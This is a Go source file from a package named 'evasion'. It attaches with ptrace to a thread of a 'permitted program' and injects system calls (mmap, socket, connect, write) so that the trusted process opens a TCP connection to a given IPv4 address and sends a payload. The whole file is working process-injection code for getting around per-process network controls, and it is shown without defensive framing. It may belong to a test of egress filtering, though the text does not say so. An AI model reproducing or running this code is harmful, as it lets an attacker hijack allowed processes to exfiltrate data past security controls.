package evasion

import (
	"errors"
	"fmt"

	"golang.org/x/sys/unix"
)

// traceInto stops a thread of the permitted program in a system call, and has it
// make others.
func traceInto(p *place) (err error) {
	if err := unix.PtraceAttach(p.Pid); err != nil {
		return fmt.Errorf("attach: %w", err)
	}
	defer func() { err = errors.Join(err, unix.PtraceDetach(p.Pid)) }()
	if err := stoppedThread(p.Pid); err != nil {
		return err
	}
	var saved unix.PtraceRegs
	if err := unix.PtraceGetRegs(p.Pid, &saved); err != nil {
		return fmt.Errorf("read registers: %w", err)
	}
	defer func() { err = errors.Join(err, unix.PtraceSetRegs(p.Pid, &saved)) }()
	const page = 4096
	memory, err := inject(p.Pid, &saved, unix.SYS_MMAP, 0, page, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANONYMOUS, ^uintptr(0), 0)
	if err != nil {
		return err
	}
	addr := rawAddress(unix.AF_INET, p.V4)
	if _, err := unix.PtracePokeData(p.Pid, memory, append(append(addr, make([]byte, ringPayloadAt-len(addr))...), payload...)); err != nil {
		return fmt.Errorf("write memory: %w", err)
	}
	fd, err := inject(p.Pid, &saved, unix.SYS_SOCKET, unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	_, err = inject(p.Pid, &saved, unix.SYS_CONNECT, fd, memory, uintptr(len(addr)))
	_, err2 := inject(p.Pid, &saved, unix.SYS_WRITE, fd, memory+ringPayloadAt, payloadBytes)
	_, err3 := inject(p.Pid, &saved, unix.SYS_CLOSE, fd)
	return errors.Join(err, err2, err3)
}

// stoppedThread waits for the next stop of a traced thread.
func stoppedThread(pid int) error {
	var status unix.WaitStatus
	if _, err := unix.Wait4(pid, &status, unix.WALL, nil); err != nil {
		return fmt.Errorf("wait: %w", err)
	}
	if !status.Stopped() {
		return fmt.Errorf("the thread did not stop: %v", status)
	}
	return nil
}

// inject makes one system call with the instruction that the thread waits in.
func inject(pid int, saved *unix.PtraceRegs, number uintptr, args ...uintptr) (uintptr, error) {
	regs := *saved
	const instruction = 2 // bytes of syscall
	regs.Rip -= instruction
	regs.Rax, regs.Orig_rax = uint64(number), ^uint64(0)
	for i, to := range []*uint64{&regs.Rdi, &regs.Rsi, &regs.Rdx, &regs.R10, &regs.R8, &regs.R9} {
		if i < len(args) {
			*to = uint64(args[i])
		}
	}
	if err := unix.PtraceSetRegs(pid, &regs); err != nil {
		return 0, fmt.Errorf("set registers: %w", err)
	}
	if err := unix.PtraceSingleStep(pid); err != nil {
		return 0, fmt.Errorf("step: %w", err)
	}
	if err := stoppedThread(pid); err != nil {
		return 0, err
	}
	if err := unix.PtraceGetRegs(pid, &regs); err != nil {
		return 0, fmt.Errorf("read registers: %w", err)
	}
	if got := int64(regs.Rax); got < 0 && got > -4096 {
		return 0, fmt.Errorf("call %d: %w", number, unix.Errno(-got))
	}
	return uintptr(regs.Rax), nil
}
